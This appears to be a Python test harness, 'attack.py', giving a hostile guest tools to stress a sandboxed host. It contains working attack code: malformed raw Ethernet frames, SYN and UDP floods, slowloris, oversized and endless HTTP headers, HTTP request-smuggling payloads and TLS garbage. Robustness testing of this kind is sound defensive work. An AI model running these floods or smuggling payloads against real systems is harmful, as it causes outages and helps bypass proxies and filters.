# attack.py - the hostile guest's tools (spec/hostile): python3 attack.py NAME ARGS
# Each prints one line of figures. Nothing here may reach past the host.
import os, random, socket, ssl, struct, sys, time

random.seed(int(os.environ.get("SEED", "7")))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frames(n):
    """Random, truncated and length-lying Ethernet frames on eth0."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    mine = open("/sys/class/net/eth0/address").read().strip()
    src = bytes.fromhex(mine.replace(":", ""))
    gw = b"\x5a\x94\xef\xe4\x0c\xdd"
    sent = 0
    for i in range(n):
        kind = i % 5
        if kind == 0:   # garbage of any length
            body = os.urandom(random.randint(0, 1500))
            f = gw + src + os.urandom(2) + body
        elif kind == 1:  # IPv4 header claiming more than is there
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 65535, 1, 0, 64, 6, 0,
                             bytes([192, 168, 127, 3]), bytes([198, 18, 0, 1]))
            f = gw + src + b"\x08\x00" + ip + os.urandom(random.randint(0, 40))
        elif kind == 2:  # bad IHL / fragment bits
            ip = struct.pack("!BBHHHBBH4s4s", 0x40 | random.randint(0, 15), 0,
                             random.randint(0, 65535), 1, random.randint(0, 65535),
                             64, random.choice([1, 6, 17, 255]), 0,
                             bytes([192, 168, 127, 3]), bytes([192, 168, 127, 1]))
            f = gw + src + b"\x08\x00" + ip + os.urandom(random.randint(0, 100))
        elif kind == 3:  # TCP with a lying data offset, to the gateway
            tcp = struct.pack("!HHIIBBHHH", random.randint(1, 65535), 80, 1, 0,
                              random.randint(0, 255), 0x02, 65535, 0, 0)
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0,
                             bytes([192, 168, 127, 3]), bytes([198, 18, 0, 1]))
            f = gw + src + b"\x08\x00" + ip + tcp
        else:            # ARP and VLAN shapes, truncated
            f = gw + src + random.choice([b"\x08\x06", b"\x81\x00", b"\x86\xdd"]) + os.urandom(random.randint(0, 60))
        try:
            s.send(f)
            sent += 1
        except OSError:
            pass
    print("frames_sent %d" % sent)


def syn_flood(host, port, n):
    dst = socket.gethostbyname(host)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    src = "192.168.127.3"
    sent = 0
    for i in range(n):
        sport = 1024 + (i % 60000)
        hdr = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
        hdr = hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]
        try:
            s.sendto(hdr, (dst, 0))
            sent += 1
        except OSError:
            pass
    print("syns_sent %d" % sent)


def udp_flood(n):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for i in range(n):
        port = 53 if i % 3 == 0 else random.randint(1, 65535)
        try:
            s.sendto(os.urandom(random.randint(0, 1400)), ("192.168.127.1", port))
            sent += 1
        except OSError:
            pass
    print("datagrams_sent %d" % sent)


def slowloris(host, port, conns, seconds):
    addr = socket.gethostbyname(host)
    socks = []
    for i in range(conns):
        try:
            c = socket.create_connection((addr, port), timeout=5)
            c.send(b"GET /hello HTTP/1.1\r\nHost: %s:%d\r\n" % (host.encode(), port))
            socks.append(c)
        except OSError:
            pass
    opened = len(socks)
    end = time.time() + seconds
    while time.time() < end:
        for c in list(socks):
            try:
                c.send(b"X-a: b\r\n")
            except OSError:
                socks.remove(c)
        time.sleep(1)
    print("slowloris_opened %d alive_at_end %d" % (opened, len(socks)))


def talk(addr, port, data, seconds=5):
    """Send data, return what came back before EOF/reset/timeout."""
    c = socket.create_connection((addr, port), timeout=seconds)
    got = b""
    try:
        c.sendall(data)
        while True:
            b = c.recv(65536)
            if not b:
                break
            got += b
    except OSError:
        pass
    c.close()
    return got


def status_of(reply):
    if not reply.startswith(b"HTTP/1.1 "):
        return "reset" if not reply else "junk"
    return reply[9:12].decode()


def headers(host, port):
    addr = socket.gethostbyname(host)
    h = b"Host: %s:%d\r\n" % (host.encode(), port)
    out = []
    out.append(status_of(talk(addr, port, b"GET /hello HTTP/1.1\r\n" + h + b"X-Big: " + b"a" * (2 << 20) + b"\r\n\r\n")))
    # endless: header lines for a while, never a blank line
    c = socket.create_connection((addr, port), timeout=10)
    c.send(b"GET /hello HTTP/1.1\r\n" + h)
    sent, reply, t0 = 0, b"", time.time()
    try:
        while time.time() - t0 < 5:
            c.send(b"X-More: %d\r\n" % sent)
            sent += 1
    except OSError:
        pass
    try:
        reply = c.recv(4096)
    except OSError:
        pass
    c.close()
    out.append(status_of(reply))
    print("giant %s endless %s (after %d lines)" % (out[0], out[1], sent))


def shapes(host, port):
    addr = socket.gethostbyname(host)
    h = b"Host: %s:%d\r\n" % (host.encode(), port)
    cases = [
        b"POST /upload HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffffff\r\n",
        b"POST /upload HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n",
        b"POST /upload HTTP/1.1\r\n" + h + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /upload HTTP/1.1\r\n" + h + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        b"POST /upload HTTP/1.1\r\n" + h + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"POST /upload HTTP/1.1\r\n" + h + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST /upload HTTP/1.1\r\n" + h + b"Content-Length: 18446744073709551617\r\n\r\n",
        b"GET /hello HTTP/1.1\r\n" + h + b" X-Folded: yes\r\n\r\n",
        b"GET /hello HTTP/1.1\r\nHost: a\r\n" + h + b"\r\n",
        b"GET /hello HTTP/1.1\r\n" + h + b"X: \x00\r\n\r\n",
        b"GET /hello HTTP/1.1\n" + h + b"\n",
        b"GET /hello HTTP/1.1\r\n" + h + b"\r\nGET /hello HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    ]
    print("shapes " + " ".join(status_of(talk(addr, port, c)) for c in cases))


def tls_garbage(host, n):
    addr = socket.gethostbyname(host)
    ctx = ssl.create_default_context()
    done = 0
    for i in range(n):
        inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, out, server_hostname=host)
        try:
            obj.do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = out.read()
        got = talk(addr, 443, hello + os.urandom(random.randint(1, 20000)), 5)
        done += 1
    print("tls_garbage %d" % done)


cmd = sys.argv[1]
args = sys.argv[2:]
if cmd == "frames":
    frames(int(args[0]))
elif cmd == "syn":
    syn_flood(args[0], int(args[1]), int(args[2]))
elif cmd == "udp":
    udp_flood(int(args[0]))
elif cmd == "slowloris":
    slowloris(args[0], int(args[1]), int(args[2]), int(args[3]))
elif cmd == "headers":
    headers(args[0], int(args[1]))
elif cmd == "shapes":
    shapes(args[0], int(args[1]))
elif cmd == "tls":
    tls_garbage(args[0], int(args[1]))
